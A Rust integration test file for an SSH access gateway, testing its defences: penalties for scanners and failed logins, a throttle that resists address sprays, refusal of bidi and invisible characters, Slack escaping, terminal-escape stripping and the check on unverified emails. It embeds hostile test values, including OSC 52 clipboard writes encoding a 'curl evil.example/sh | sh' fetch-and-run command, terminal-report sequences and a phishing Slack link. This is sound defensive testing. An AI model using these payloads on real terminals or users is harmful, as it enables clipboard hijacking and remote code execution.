//! The front door against hostile clients and hostile identities (issue
//! 14), the points the other front-door files do not cover, each from where
//! the attacker stands:
//!
//! - point 3 (review M4): a source that opens connections and closes them
//!   without trying to authenticate, or that fails logins, earns a penalty
//!   (OpenSSH `PerSourcePenalties`) and is refused at accept, while other
//!   sources log in; the failure throttle does not forget an attacker when
//!   a spray of addresses fills it;
//! - point 6 (review L1, L4): what one person types never reaches another
//!   person's screen raw: reasons with bidi or zero-width characters are
//!   refused, names and reasons a database writer planted are shown
//!   display-safe in every listing (broker and host CLI), the webhook's
//!   Slack text is escaped, and `sessions play` / `watch` drop OSC 52,
//!   title reports and DCS unless `--raw`;
//! - point 7 (review L2): an email that is not verified names no one.
//!
//! The real test IdP signs the tokens, the real `portcullis` binary serves
//! (the `process` inventory backend: `web1` is named in the config, no LXC
//! container is needed since nothing enters one), and the stock OpenSSH
//! client logs in.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

mod common;

use std::io::{BufRead, BufReader, Read, Write};
use std::net::{IpAddr, SocketAddr, TcpListener};
use std::sync::{Arc, Mutex, OnceLock};
use std::time::Duration;

use common::gateway::{SshResult, TestGateway, run_ssh};
use common::idp::TestIdp;

fn idp() -> &'static TestIdp {
    static IDP: OnceLock<TestIdp> = OnceLock::new();
    IDP.get_or_init(|| std::thread::spawn(TestIdp::start).join().unwrap())
}

fn token(sub: &str) -> String {
    let idp = idp();
    idp.mint_id_token(idp.standard_claims(sub))
}

/// `ssh [-o BindAddress=FROM] portcullis@gw LINE` as `sub`.
fn broker_from(gw: &TestGateway, from: Option<&str>, sub: &str, line: &str) -> SshResult {
    let dir = tempfile::tempdir().unwrap();
    let mut cmd = gw.ssh("portcullis", &token(sub), dir.path());
    if let Some(from) = from {
        cmd.args(["-o", &format!("BindAddress={from}")]);
    }
    cmd.arg(line);
    run_ssh(&mut cmd, b"")
}

fn broker(gw: &TestGateway, sub: &str, line: &str) -> SshResult {
    broker_from(gw, None, sub, line)
}

// ---------------------------------------------------------------- point 3

/// Connects from `from` and waits (at most 10 s) for the server's version
/// line; `None` when the connection is closed before it (refused at
/// accept). The stream is returned open.
fn banner_from(from: &str, port: u16) -> Option<tokio::net::TcpStream> {
    let rt = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap();
    rt.block_on(async {
        use tokio::io::AsyncReadExt;
        let socket = tokio::net::TcpSocket::new_v4().unwrap();
        socket
            .bind(SocketAddr::new(from.parse().unwrap(), 0))
            .unwrap();
        let mut stream = socket
            .connect(SocketAddr::new([127, 0, 0, 1].into(), port))
            .await
            .ok()?;
        let mut buf = [0u8; 8];
        match tokio::time::timeout(Duration::from_secs(10), stream.read(&mut buf)).await {
            Ok(Ok(n)) if n > 0 && buf.starts_with(b"SSH-") => Some(stream),
            _ => None,
        }
    })
}

/// A login from 127.0.0.1 gets through the front door (authenticated, then
/// the broker answers).
fn assert_login_works(gw: &TestGateway) {
    let r = broker(gw, "admin", "help");
    assert_eq!(r.code, 0, "{}\n{}", r.stderr, gw.log());
}

/// The `SourcePenalised` audit events: (source, after, client address).
fn penalties_audited(gw: &TestGateway) -> Vec<(String, String, String)> {
    gw.audit_events()
        .into_iter()
        .filter(|e| e["kind"] == "authentication" && e["outcome"] == "deny")
        .filter_map(|e| {
            let d: serde_json::Value = serde_json::from_str(e["detail"].as_str()?).ok()?;
            Some((
                d["source"].as_str()?.to_string(),
                d["after"].as_str()?.to_string(),
                e["client_addr"].as_str().unwrap_or("").to_string(),
            ))
        })
        .collect()
}

/// OpenSSH's `noauth` penalty: a source that connects, reads the banner
/// and closes without trying to authenticate (a scanner, a slot holder)
/// is refused at accept after `penalty_min` worth of them; another
/// source still logs in. Failed before: no such penalty was earned, every
/// connection got a banner.
#[test]
fn connections_closed_without_trying_to_log_in_earn_their_source_a_penalty() {
    let gw = TestGateway::start(
        &idp().issuer,
        "[auth]\nfailure_delay = \"0s\"\npenalty_noauth = \"5s\"\npenalty_min = \"15s\"\n\
         penalty_max = \"1m\"\n",
    );
    let mut refused_at = None;
    for attempt in 0..12 {
        match banner_from("127.0.0.2", gw.port) {
            Some(stream) => drop(stream),
            None => {
                refused_at = Some(attempt);
                break;
            }
        }
    }
    let refused_at = refused_at.unwrap_or_else(|| {
        panic!(
            "12 connections closed without authentication, none refused\n{}",
            gw.log()
        )
    });
    // 5 s each, refused from 15 s on: never before the fourth.
    assert!(refused_at >= 3, "refused at attempt {refused_at}");
    assert!(gw.log().contains("127.0.0.2 is penalised for another"));
    // Audited once, when it became refused; not per refused connection.
    let audited = penalties_audited(&gw);
    assert_eq!(audited.len(), 1, "{audited:?}");
    assert_eq!(
        (audited[0].0.as_str(), audited[0].1.as_str()),
        ("127.0.0.2", "noauth")
    );
    assert!(audited[0].2.starts_with("127.0.0.2:"), "{audited:?}");
    // The penalised source cannot even log in; another source can.
    let r = broker_from(&gw, Some("127.0.0.2"), "admin", "help");
    assert_eq!(r.code, 255, "{}", r.stderr);
    assert_login_works(&gw);
}

/// OpenSSH's `authfail` penalty, end to end: a source whose logins fail is
/// refused at accept, before the banner; another source logs in.
#[test]
fn failed_logins_earn_their_source_a_penalty() {
    let gw = TestGateway::start(
        &idp().issuer,
        // The banner probes earn no `noauth` penalty here: only failures count.
        "[auth]\nfailure_delay = \"0s\"\npenalty_authfail = \"5s\"\npenalty_noauth = \"0s\"\n\
         penalty_min = \"15s\"\npenalty_max = \"1m\"\n",
    );
    let mut failed = 0;
    while banner_from("127.0.0.2", gw.port).is_some() {
        assert!(
            failed < 10,
            "10 failed logins, still admitted\n{}",
            gw.log()
        );
        let dir = tempfile::tempdir().unwrap();
        let mut cmd = gw.ssh("root@web1", "not-a-token", dir.path());
        cmd.args(["-o", "BindAddress=127.0.0.2", "true"]);
        let r = run_ssh(&mut cmd, b"");
        assert_eq!(r.code, 255, "{}", r.stderr);
        failed += 1;
    }
    assert!(failed >= 3, "refused after {failed} failures");
    assert!(gw.log().contains("127.0.0.2 is penalised for another"));
    let audited = penalties_audited(&gw);
    assert_eq!(audited.len(), 1, "{audited:?}");
    assert_eq!(
        (audited[0].0.as_str(), audited[0].1.as_str()),
        ("127.0.0.2", "authfail")
    );
    assert_login_works(&gw);
}

/// The failure throttle the gateway uses (`auth.failure_delay`): an
/// attacker brute-forcing from one address sprays failures from 65,536
/// others to fill the table. Failed before: a full table was cleared, so
/// the attacker's delay started again at the base.
#[test]
fn a_spray_of_addresses_does_not_make_the_throttle_forget_the_attacker() {
    let text = "[oidc]\nissuer = \"https://idp.example\"\nclient_id = \"c\"\n\
                [auth]\nfailure_delay = \"1s\"\nfailure_delay_max = \"1h\"\n";
    let config = portcullis::config::Config::parse(text, std::path::Path::new("t.toml")).unwrap();
    let throttle = portcullis::ssh::FailureThrottle::new(&config.auth);
    let attacker: IpAddr = "192.0.2.66".parse().unwrap();
    for _ in 0..8 {
        throttle.record_failure(attacker);
    }
    for i in 0..70_000u32 {
        throttle.record_failure(IpAddr::V4((0x0A00_0000 + i).into()));
        if i % 4096 == 0 {
            // The attacker keeps trying while spraying.
            throttle.record_failure(attacker);
        }
    }
    let delay = throttle.record_failure(attacker);
    assert!(
        throttle.failures(attacker) >= 26,
        "{}",
        throttle.failures(attacker)
    );
    assert_eq!(
        delay,
        Duration::from_secs(3600),
        "capped at failure_delay_max"
    );
}

// ---------------------------------------------------------------- point 6

/// A webhook receiver keeping the bodies it got.
struct Receiver {
    url: String,
    got: Arc<Mutex<Vec<String>>>,
}

impl Receiver {
    fn start() -> Receiver {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let url = format!("http://{}/hook", listener.local_addr().unwrap());
        let got = Arc::new(Mutex::new(Vec::new()));
        let g = got.clone();
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                let Ok(mut stream) = stream else { continue };
                let mut reader = BufReader::new(stream.try_clone().unwrap());
                let mut length = 0usize;
                loop {
                    let mut line = String::new();
                    if reader.read_line(&mut line).unwrap_or(0) == 0 || line == "\r\n" {
                        break;
                    }
                    if let Some(v) = line.to_ascii_lowercase().strip_prefix("content-length:") {
                        length = v.trim().parse().unwrap_or(0);
                    }
                }
                let mut body = vec![0u8; length];
                let _ = reader.read_exact(&mut body);
                g.lock().unwrap().push(String::from_utf8(body).unwrap());
                let _ = stream.write_all(
                    b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n",
                );
            }
        });
        Receiver { url, got }
    }
}

/// A gateway whose inventory names `web1` (env=dev; not running, nothing
/// enters it), posting grant events to `hook`.
fn display_gateway(hook: &str) -> TestGateway {
    let dir = std::env::temp_dir();
    TestGateway::start(
        &idp().issuer,
        &format!(
            "[inventory]\nbackend = \"process\"\n\
             [containers.web1]\npid_file = \"{}/portcullis-no-such-web1.pid\"\n\
             labels = {{ env = \"dev\" }}\n\
             [grants]\nwebhooks = [\"{hook}\"]\nwebhook_secret = \"s3cret-s3cret\"\n\
             webhook_backoff_max = \"1s\"\n",
            dir.display()
        ),
    )
}

fn refusal(r: &SshResult) -> &str {
    assert_ne!(
        r.code,
        0,
        "accepted: {}",
        String::from_utf8_lossy(&r.stdout)
    );
    &r.stderr
}

/// Trojan Source in a reason (CVE-2021-42574): an RLO makes the approver
/// read another text than the one stored; a zero-width space hides a word
/// from search. Refused with the character named, and audited. Failed
/// before: only control characters were refused.
#[test]
fn reasons_with_bidi_or_invisible_characters_are_refused_and_audited() {
    let receiver = Receiver::start();
    let gw = display_gateway(&receiver.url);
    let bidi = broker(
        &gw,
        "alice",
        "request web1 --login app --for 10m --reason \"OPS-1 read logs \u{202E}gnp.exe\"",
    );
    assert!(
        refusal(&bidi).contains("bidirectional control U+202E"),
        "{}",
        bidi.stderr
    );
    let hidden = broker(
        &gw,
        "alice",
        "request web1 --login app --for 10m --reason \"OPS-1 dr\u{200B}op db\"",
    );
    assert!(
        refusal(&hidden).contains("invisible character U+200B"),
        "{}",
        hidden.stderr
    );
    // A kill reason is shown in the victim's terminal.
    let kill = broker(
        &gw,
        "admin",
        "sessions kill S-none --reason \"bye \u{1b}]0;pwned\u{7}\"",
    );
    assert!(
        refusal(&kill).contains("control character U+001B"),
        "{}",
        kill.stderr
    );
    let kill = broker(
        &gw,
        "admin",
        "sessions kill S-none --reason \"bye \u{2066}x\"",
    );
    assert!(
        refusal(&kill).contains("bidirectional control U+2066"),
        "{}",
        kill.stderr
    );
    let events = gw.audit_events();
    let refused: Vec<String> = events
        .iter()
        .filter(|e| e["outcome"] == "deny")
        .map(|e| e["detail"].to_string())
        .collect();
    for what in ["U+202E", "U+200B", "U+001B", "U+2066"] {
        assert!(
            refused.iter().any(|d| d.contains(what)),
            "{what} not audited: {refused:#?}"
        );
    }
    // Nothing was stored.
    let list = broker(&gw, "alice", "requests --json");
    assert_eq!(String::from_utf8_lossy(&list.stdout).trim(), "[]");
}

/// Slack renders `<!channel>` as a mass mention and `<URL|text>` as a
/// link: a requester's reason must stay text in the approvers' channel.
/// Failed before: the reason went into `text` raw.
#[test]
fn the_webhook_text_escapes_slack_markup() {
    let receiver = Receiver::start();
    let gw = display_gateway(&receiver.url);
    let r = broker(
        &gw,
        "alice",
        "request web1 --login app --for 10m \
         --reason \"OPS-1 <!channel> <https://evil.example/|Approve in Portcullis> & thanks\"",
    );
    assert_eq!(r.code, 0, "{}\n{}", r.stderr, gw.log());
    let mut body = String::new();
    common::wait_until(
        "the request_created webhook",
        Duration::from_secs(30),
        || {
            let got = receiver.got.lock().unwrap();
            match got.iter().find(|b| b.contains("request_created")) {
                Some(b) => {
                    body = b.clone();
                    true
                }
                None => false,
            }
        },
    );
    let v: serde_json::Value = serde_json::from_str(&body).unwrap();
    let text = v["text"].as_str().unwrap();
    assert!(
        text.contains(
            "OPS-1 &lt;!channel&gt; &lt;https://evil.example/|Approve in Portcullis&gt; &amp; \
             thanks"
        ),
        "{text}"
    );
    assert!(!text.contains('<') && !text.contains('>'), "{text}");
    // The structured field keeps the reason as typed, for programs.
    assert_eq!(
        v["reason"],
        "OPS-1 <!channel> <https://evil.example/|Approve in Portcullis> & thanks"
    );
}

/// What a terminal must never receive from a name or reason: ESC (CSI,
/// OSC 52 clipboard writes, title changes), BEL, bidi overrides.
fn assert_display_safe(what: &str, out: &[u8]) {
    let text = String::from_utf8_lossy(out);
    for bad in ['\u{1b}', '\u{7}', '\u{202E}', '\u{9b}'] {
        assert!(
            !text.contains(bad),
            "{what}: U+{:04X} reached the screen:\n{text:?}",
            bad as u32
        );
    }
    assert!(text.contains('\u{FFFD}'), "{what}: {text:?}");
}

/// A database writer plants names and reasons that repaint an approver's
/// terminal (clear screen, OSC 52 clipboard write, a bidi override). Every
/// listing shows them display-safe: the broker's `requests`, `request
/// show`, `grants`, `locks list`, and the host's `sessions list`, `locks
/// list`. Failed before: they were printed raw.
#[test]
fn names_a_database_writer_planted_are_listed_display_safe() {
    let receiver = Receiver::start();
    let gw = display_gateway(&receiver.url);
    assert_login_works(&gw);
    let now = common::idp::now_secs() as i64 * 1000;
    let mallory = "mallory\u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGUvc2ggfCBzaA==\u{7}";
    let reason = "OPS-1 \u{1b}[2J\u{1b}[H\u{202E}evil \u{9b}31m";
    gw.sql(&format!(
        "INSERT INTO access_requests (id, requester, container, login, duration_seconds, \
         reason, status, created_at) VALUES ('r-pending', '{mallory}', 'web1', 'root', 600, \
         '{reason}', 'pending', {now})"
    ));
    gw.sql(&format!(
        "INSERT INTO access_requests (id, requester, container, login, duration_seconds, \
         reason, status, created_at, decided_by, decided_at, decision_comment, starts_at, \
         expires_at) VALUES ('r-active', '{mallory}', 'web1', 'root', 600, '{reason}', \
         'approved', {now}, 'approver\u{1b}[8m', {now}, '{reason}', {now}, {})",
        now + 600_000
    ));
    gw.sql(&format!(
        "INSERT INTO locks (id, target, value, reason, created_by, created_at) VALUES \
         ('l-hostile', 'principal', '{mallory}', '{reason}', 'db\u{1b}[2J', {now})"
    ));
    gw.sql(&format!(
        "INSERT INTO sessions (id, principal, container, login, started_at, ended_at, status, \
         recording_path) VALUES ('s-hostile', '{mallory}', 'web1', 'root', {now}, {now}, \
         'ended', '/nonexistent.cast')"
    ));
    for line in ["requests", "request show r-pending", "grants", "locks list"] {
        let r = broker(&gw, "admin", line);
        assert_eq!(r.code, 0, "{line}: {}", r.stderr);
        assert_display_safe(line, &r.stdout);
    }
    for args in [&["sessions", "list"][..], &["locks", "list"][..]] {
        let out = gw.cli(args);
        assert!(out.status.success(), "{args:?}: {out:?}");
        assert_display_safe(&args.join(" "), &out.stdout);
    }
}

/// A recording holding what a user inside a container printed to attack
/// whoever replays it: an OSC 52 clipboard write, a title set then a title
/// report (the terminal types the title back), a DCS string and a device
/// status report. `sessions play` and `sessions watch` drop them and keep
/// colours; `--raw` gives the bytes as recorded. Failed before: the bytes
/// reached the reviewer's terminal as recorded.
#[test]
fn sessions_play_and_watch_neutralise_terminal_attacks() {
    let receiver = Receiver::start();
    let gw = display_gateway(&receiver.url);
    let hostile = "\u{1b}[31mred\u{1b}[0m \u{1b}]52;c;Y3VybCBldmlsIHwgc2g=\u{7}\
                   \u{1b}]2;;id;\u{7}\u{1b}[21t\u{1b}P+q544e\u{1b}\\\u{1b}[6nend\r\n";
    let cast = gw.state_dir.join("hostile.cast");
    let header = serde_json::json!({"version": 2, "width": 80, "height": 24});
    let events = [
        serde_json::json!([0.01, "o", &hostile[..20]]),
        serde_json::json!([0.02, "o", &hostile[20..]]),
    ];
    std::fs::write(&cast, format!("{header}\n{}\n{}\n", events[0], events[1])).unwrap();
    let now = common::idp::now_secs() as i64 * 1000;
    gw.sql(&format!(
        "INSERT INTO sessions (id, principal, container, login, started_at, ended_at, status, \
         recording_path) VALUES ('s-cast', 'alice', 'web1', 'root', {now}, {now}, 'ended', \
         '{}')",
        cast.display()
    ));
    let neutral = "\u{1b}[31mred\u{1b}[0m end\r\n";
    for args in [
        &["sessions", "play", "s-cast", "--speed", "100"][..],
        &["sessions", "watch", "s-cast"][..],
    ] {
        let out = gw.cli(args);
        assert!(out.status.success(), "{args:?}: {out:?}");
        assert_eq!(String::from_utf8_lossy(&out.stdout), neutral, "{args:?}");
        let mut raw = args.to_vec();
        raw.push("--raw");
        let out = gw.cli(&raw);
        assert!(out.status.success(), "{raw:?}: {out:?}");
        assert_eq!(String::from_utf8_lossy(&out.stdout), hostile, "{raw:?}");
    }
}

// ---------------------------------------------------------------- point 7

/// OpenID Connect Core §5.1: an email is the user's only when
/// `email_verified` is true. With `subject_claim = "email"`, a token from
/// the real IdP's key whose email is not verified (an account that typed
/// someone else's address) is refused, named and audited; the same
/// account verified logs in as that email.
#[test]
fn an_unverified_email_does_not_name_a_principal() {
    let idp = idp();
    let gw = TestGateway::start_with_oidc(
        &format!(
            "[oidc]\nissuer = \"{}\"\nclient_id = \"portcullis\"\nsubject_claim = \"email\"\n",
            idp.issuer
        ),
        "",
    );
    let mut claims = idp.standard_claims("mallory");
    claims["email"] = serde_json::json!("boss@example.com");
    claims["email_verified"] = serde_json::json!(false);
    let dir = tempfile::tempdir().unwrap();
    let mut cmd = gw.ssh("portcullis", &idp.mint_id_token(claims.clone()), dir.path());
    cmd.arg("whoami");
    let r = run_ssh(&mut cmd, b"");
    assert_eq!(r.code, 255, "{}", String::from_utf8_lossy(&r.stdout));
    let audited = gw.audit_events().into_iter().any(|e| {
        e["kind"] == "authentication"
            && e["outcome"] == "failure"
            && e["detail"]
                .as_str()
                .unwrap_or("")
                .contains("email names the principal but email_verified is not true")
    });
    assert!(audited, "{}", gw.log());
    claims["email_verified"] = serde_json::json!(true);
    let mut cmd = gw.ssh("portcullis", &idp.mint_id_token(claims), dir.path());
    cmd.arg("whoami");
    let r = run_ssh(&mut cmd, b"");
    assert_eq!(r.code, 0, "{}\n{}", r.stderr, gw.log());
    assert!(
        String::from_utf8_lossy(&r.stdout).contains("boss@example.com"),
        "{}",
        String::from_utf8_lossy(&r.stdout)
    );
}
